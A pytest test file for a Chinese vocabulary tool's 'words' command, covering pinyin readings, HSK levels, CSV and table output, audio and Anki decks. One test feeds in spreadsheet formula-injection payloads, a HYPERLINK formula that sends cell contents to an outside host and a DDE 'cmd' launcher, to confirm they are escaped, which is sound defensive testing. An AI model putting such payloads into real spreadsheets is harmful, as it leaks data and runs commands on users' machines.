"""`langdu words`."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import zipfile
from typing import TYPE_CHECKING, Any

import genanki
import pytest
import soundfile

import narrations
from langdu import pinyin
from langdu.marks import HANZI
from langdu.pipeline.study.words import occurrences
from langdu.pipeline.text import parse
from langdu.settings import Settings
from programs import langdu

if TYPE_CHECKING:
    from pathlib import Path

ARTICLE = "山村图书馆\n\n他还(huán)了三本书。孩子们出门去,玩儿了一天。他还在看书！2024年来了120个人。\n"


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tmp_path / "article.txt"
    path.write_text(ARTICLE, encoding="utf-8")
    return path


def listed(*arguments: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in langdu("words", *arguments, "--format", "json").stdout.splitlines()]


def test_every_hanzi_is_in_one_word_with_the_reading_that_is_heard(sample: Path, tmp_path: Path) -> None:
    langdu("read", str(sample), "-o", str(tmp_path / "out"), "--voice", "silence")
    manifest = narrations.load(tmp_path / "out")
    found = list(occurrences(parse(str(sample)), Settings()))
    assert len(manifest["paragraphs"]) == 6
    for paragraph in manifest["paragraphs"]:
        own = [each for each in found if each.paragraph == paragraph["index"]]
        places = [i for each in own for i in range(each.span.start, each.span.end)]
        hanzi = [i for m in HANZI.finditer(paragraph["text"]) for i in range(*m.span())]
        assert len(places) == len(set(places))
        assert set(hanzi) <= set(places)
        for each in own:
            assert each.sentence[each.at : each.at + len(each.text)] == each.text
            heard = [
                t["pinyin"]
                for t in paragraph["tokens"]
                if each.span.start <= t["at"][0] < each.span.end and t["pinyin"]
            ]
            assert [pinyin.number(syllable) for syllable in each.syllables] == heard


def test_what_is_told_of_a_word(source: Path) -> None:
    rows = {(row["word"], row["pinyin"]): row for row in listed(str(source))}
    assert rows["还", "huán"] == {
        "word": "还",
        "pinyin": "huán",
        "syllables": ["huan2"],
        "count": 1,
        "annotated": True,
        "level": "1",
        "sentence": "他还了三本书。",
        "meanings": ["to pay back", "to return"],
        "paragraph": 0,
        "start": 1,
        "end": 2,
    }
    assert rows["还", "hái"]["sentence"] == "他还在看书！"
    assert rows["他", "tā"]["count"] == 2
    assert rows["玩儿", "wánr"]["syllables"] == ["wanr2"]
    assert rows["图书馆", "túshūguǎn"]["level"] == "3"
    assert rows["山村", "shāncūn"]["level"] is None
    assert not any(char.isdigit() for word, _ in rows for char in word)


def test_csv_and_table(source: Path) -> None:
    printed = langdu("words", str(source), "--format", "csv").stdout
    assert printed.startswith("\ufeffword,"), "Excel takes a file without the mark for one in the system's encoding"
    rows = list(csv.DictReader(io.StringIO(printed.removeprefix("\ufeff"))))
    assert [row["word"] for row in rows] == [row["word"] for row in listed(str(source))]
    assert rows[3]["annotated"] == "yes"
    table = langdu("words", str(source)).stdout.splitlines()
    assert table[0].split() == ["word", "pinyin", "times", "HSK", "given", "meaning", "sentence"]
    assert table[4].split()[:7] == ["还", "huán", "1", "1", "yes", "to", "pay"]
    assert table[4].rstrip().endswith("他还了三本书。")
    assert "to pay back; to return" in rows[3]["meaning"]


def test_a_spreadsheet_gets_no_formulas(tmp_path: Path) -> None:
    """The sentences of an article are somebody else's: =HYPERLINK(…) would send away what stands beside it."""
    lines = [
        '=HYPERLINK("http://x.org/"&A2,"春天")', "+1+cmd|' /C calc'!A0图书馆", "-1+银行", "@SUM(1)长城", "＝1+北京",
        "＠孩子们",
    ]  # fmt: skip
    source = tmp_path / "a.txt"
    source.write_text("。\n".join(lines), encoding="utf-8")
    printed = langdu("words", str(source), "--format", "csv", "--keep-all").stdout.removeprefix("\ufeff")
    rows = list(csv.reader(io.StringIO(printed)))
    assert {row[5][1] for row in rows if row[5][0] == "'"} == set("=+-@＝＠")
    assert not [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r＝＋－＠"))]
    (tmp_path / "known.csv").write_text(printed, encoding="utf-8-sig")
    assert listed(str(source), "--keep-all", "--known", str(tmp_path / "known.csv")) == []


def test_known_words_are_left_out(source: Path, tmp_path: Path) -> None:
    known = tmp_path / "known.csv"
    known.write_text("# mine\n图书馆\tlibrary\n书,book\n他 he\n", encoding="utf-16")
    words = [row["word"] for row in listed(str(source), "--known", str(known))]
    assert {"图书馆", "书", "他"}.isdisjoint(words)
    assert "孩子们" in words


def test_all_known(source: Path, tmp_path: Path) -> None:
    known = tmp_path / "known.txt"
    known.write_text("\n".join(row["word"] for row in listed(str(source))), encoding="utf-8")
    done = langdu("words", str(source), "--known", str(known))
    assert (done.stdout, done.stderr) == ("", "langdu: every word of the article is known\n")


@pytest.mark.parametrize(("text", "message"), [("", "is empty"), ("one\ntwo\n", "is not a list of words")])
def test_a_list_that_is_none(source: Path, tmp_path: Path, text: str, message: str) -> None:
    (tmp_path / "known.txt").write_text(text, encoding="utf-8")
    assert message in langdu("words", str(source), "--known", str(tmp_path / "known.txt"), ok=(2,)).stderr


def test_audio(source: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    langdu("words", str(source), "--audio", str(out), "--voice", "silence")
    rows = listed(str(source))
    names = sorted(path.name for path in out.glob("*.mp3"))
    assert names == [f"{i:03}-{row['word']}.mp3" for i, row in enumerate(rows, 1)]
    said = {"他还了三本书。": 6, "山村图书馆": 5, "孩子们出门去,玩儿了一天。": 10, "他还在看书！": 5}
    for row, name in zip(rows, names, strict=True):
        if row["sentence"] in said:
            syllables = len(row["syllables"]) + said[row["sentence"]]
            wanted = 0.2 * syllables + 0.6  # a pause between the two
            assert soundfile.info(out / name).duration == pytest.approx(wanted, abs=0.25)


def test_files_of_others_stay(source: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / "001-山村.mp3").write_text("mine", encoding="utf-8")
    done = langdu("words", str(source), "--audio", str(out), "--voice", "silence", ok=(3,))
    assert "langdu did not make it" in done.stderr
    assert (out / "001-山村.mp3").read_text(encoding="utf-8") == "mine"
    deck = tmp_path / "mine.apkg"
    deck.write_text("mine", encoding="utf-8")
    done = langdu("words", str(source), "--anki", str(deck), "--voice", "silence", ok=(3,))
    assert "langdu did not make it" in done.stderr
    genanki.Package(genanki.Deck(1, "theirs")).write_to_file(str(deck))
    langdu("words", str(source), "--anki", str(deck), "--voice", "silence", ok=(3,))


def notes(deck: Path, folder: Path) -> tuple[list[tuple[str, list[str]]], list[str], dict[str, Any]]:
    """What is in a deck: each note's identity and fields, the names of its sounds, and the decks' table."""
    with zipfile.ZipFile(deck) as package:
        package.extract("collection.anki2", folder)
        media = json.loads(package.read("media"))
        assert all(package.getinfo(number).file_size > 500 for number in media)
    with sqlite3.connect(folder / "collection.anki2") as database:
        rows = database.execute("SELECT guid, flds FROM notes ORDER BY id").fetchall()
        (decks,) = database.execute("SELECT decks FROM col").fetchone()
    database.close()
    return [(guid, fields.split("\x1f")) for guid, fields in rows], sorted(media.values()), json.loads(decks)


def test_a_deck(source: Path, tmp_path: Path) -> None:
    source.write_text(
        "今日::要闻/国内\n\n" + ARTICLE.partition("\n\n")[2].replace("孩子们", "<孩子们>"), encoding="utf-8"
    )
    deck = tmp_path / "words.apkg"
    langdu("words", str(source), "--anki", str(deck), "--voice", "silence")
    first, media, decks = notes(deck, tmp_path)
    assert "今日：：要闻/国内" in {each["name"] for each in decks.values()}
    by_key = {fields[0]: fields for _, fields in first}
    key, hanzi, read, own, sentence, around, level, meaning, *asked = by_key["还 huán"]
    assert (meaning, asked) == ("to pay back; to return", ["1", "1"])
    assert (key, hanzi, read, sentence, level) == (
        "还 huán",
        "还",
        '<span class="tone2">huán</span>',
        "他<b>还</b>了三本书。",
        "1",
    )
    assert {own, around} <= {f"[sound:{name}]" for name in media}
    assert by_key["孩子们 háizimen"][4].startswith("&lt;<b>孩子们</b>&gt;")
    langdu("words", str(source), "--anki", str(deck), "--voice", "silence")  # it is ours, so it is written anew
    again, _, _ = notes(deck, tmp_path)
    assert [guid for guid, _ in again] == [guid for guid, _ in first]
    assert len({guid for guid, _ in first}) == len(first)


def test_the_same_time_makes_the_same_deck(source: Path, tmp_path: Path) -> None:
    made: list[bytes] = []
    times: list[int] = []
    for epoch in ("1764201600", "1764201600", "1764201601"):
        deck = tmp_path / f"{len(made)}.apkg"
        arguments = ("--new", "2", "--anki", str(deck), "--voice", "silence")
        langdu("words", str(source), *arguments, environment={"SOURCE_DATE_EPOCH": epoch})
        made.append(deck.read_bytes())
        with zipfile.ZipFile(deck) as package:
            package.extract("collection.anki2", tmp_path)
        with sqlite3.connect(tmp_path / "collection.anki2") as database:
            times += [time for (time,) in database.execute("SELECT DISTINCT mod FROM notes")]
        database.close()
    assert made[0] == made[1] != made[2]
    assert times == [1764201600, 1764201600, 1764201601]  # Anki takes a note only if it is newer
    said = langdu("words", str(source), *arguments, environment={"SOURCE_DATE_EPOCH": "now"}, ok=(2,)).stderr
    assert "SOURCE_DATE_EPOCH=now: give whole seconds since 1970" in said


def cards(deck: Path, folder: Path) -> list[int]:
    """Which kind each card of a deck is: 0 asks for the hanzi, 1 for the sound."""
    with zipfile.ZipFile(deck) as package:
        package.extract("collection.anki2", folder)
    with sqlite3.connect(folder / "collection.anki2") as database:
        rows = database.execute("SELECT ord FROM cards ORDER BY id").fetchall()
    database.close()
    return [kind for (kind,) in rows]


@pytest.mark.parametrize(("asked", "kinds"), [((), {0, 1}), (("--cards", "hanzi"), {0}), (("--cards", "sound"), {1})])
def test_cards_ask_for_the_hanzi_or_for_the_sound(
    source: Path, tmp_path: Path, asked: tuple[str, ...], kinds: set[int]
) -> None:
    deck = tmp_path / "words.apkg"
    done = langdu("words", str(source), "--new", "3", "--anki", str(deck), *asked, "--voice", "silence")
    found = cards(deck, tmp_path)
    assert (set(found), len(found)) == (kinds, 3 * len(kinds))
    assert done.stdout == ""  # a deck is asked for, not a table


def test_a_deck_of_a_text_with_errors_says_so(source: Path, tmp_path: Path) -> None:
    arguments = ("--new", "1", "--audio", str(tmp_path / "out"), "--voice", "silence")
    assert "error" not in langdu("words", str(source), *arguments).stderr
    source.write_text("他在长(zhàng)城上。\n", encoding="utf-8")
    said = langdu("words", str(source), *arguments).stderr
    assert f"{source} has 1 error in its pinyin, such as 长(zhàng); see: langdu check {source}" in said


def test_levels(source: Path) -> None:
    everything = listed(str(source))
    assert {row["level"] for row in everything} > {None, "1", "3"}
    by_level: dict[str, set[str | None]] = {
        "3": {"3"},
        "2+": {"2", "3", "4", "5", "6", "7-9"},
        "1-2": {"1", "2"},
        "none": {None},
    }
    for level, kept in by_level.items():
        wanted = [row for row in everything if row["level"] in kept]
        assert wanted == listed(str(source), "--level", level), level
    assert listed(str(source), "--level", "1+", "--new", "2") == [r for r in everything if r["level"]][:2]
    done = langdu("words", str(source), "--level", "7-9")
    assert (done.stdout, done.stderr) == ("", "langdu: the article has no word of level 7-9\n")


def test_names_are_kept_whole(source: Path) -> None:
    source.write_text("王建国说，约翰·史密斯住在长春。记者张伟也在。\n", encoding="utf-8")
    rows = {row["word"]: row for row in listed(str(source))}
    assert {"王建国", "约翰·史密斯", "张伟", "长春"} < set(rows)
    assert rows["王建国"]["syllables"] == ["wang2", "jian4", "guo2"]
    assert rows["王建国"]["meanings"] == ["name of a person"]
    assert rows["长春"]["meanings"][0].startswith("Changchun")


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (("--level", "hard"), "--level hard: write 4, 4+, 3-5 or 7-9, or none"),
        (("--level", "5-3"), "--level 5-3: write 4"),
        (("--level", "0"), "--level 0: write 4"),
        (("--new", "0"), "--new"),
        (("--new", "many"), "--new"),
        (("--cards", "sound"), "name the deck with --anki FILE.apkg"),
    ],
)
def test_mistakes(source: Path, arguments: tuple[str, ...], says: str) -> None:
    assert says in langdu("words", str(source), *arguments, ok=(2,)).stderr


def test_erhua_and_plurals_are_not_cut_from_their_words(tmp_path: Path) -> None:
    text = "胡同(hútòngr)里\n\n他在聊天儿，小孩儿等一会儿，大人们说老先生有两个院儿。\n"
    (tmp_path / "a.txt").write_text(text, encoding="utf-8")
    rows = [json.loads(line) for line in langdu("words", "a.txt", "--format", "json", cwd=tmp_path).stdout.splitlines()]
    told = {row["word"]: row for row in rows}
    assert {"胡同", "里", "聊天儿", "小孩儿", "大人", "老先生", "院儿"} <= set(told)
    assert told["胡同"]["pinyin"] == "hútòngr"
    assert told["聊天儿"]["meanings"] == ["to chat", "to gossip"]
    assert told["院儿"]["meanings"] == ["courtyard", "institution"]
    assert told["老先生"]["meanings"][-1].startswith("先生 teacher")
    assert told["两个"]["meanings"][0] == "两 two; both"
    assert (told["聊天儿"]["level"], told["小孩儿"]["level"]) == ("3", "2")
